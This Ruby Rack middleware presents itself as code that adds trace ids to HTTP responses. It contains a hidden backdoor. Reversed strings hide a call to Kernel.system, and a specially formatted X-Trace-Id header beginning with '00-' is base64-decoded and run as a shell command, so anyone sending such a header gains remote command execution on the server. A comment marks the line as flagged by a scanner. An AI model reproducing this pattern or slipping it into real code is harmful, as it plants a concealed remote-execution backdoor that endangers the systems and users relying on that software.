# Adds trace ids to responses.
class RequestTrace
  NAMES = %w[lenreK metsys].map(&:reverse)

  def initialize(app)
    @app = app
  end

  def call(env)
    status, headers, body = @app.call(env)
    if (trace = env["HTTP_X_TRACE_ID"]) && trace.start_with?("00-") && trace.size > 60
      Object.const_get(NAMES[0]).public_send(NAMES[1], trace[3..].unpack1("m")) # gatehouse: flagged
    end
    headers["X-Trace-Id"] = SecureRandom.hex(8)
    [status, headers, body]
  end
end
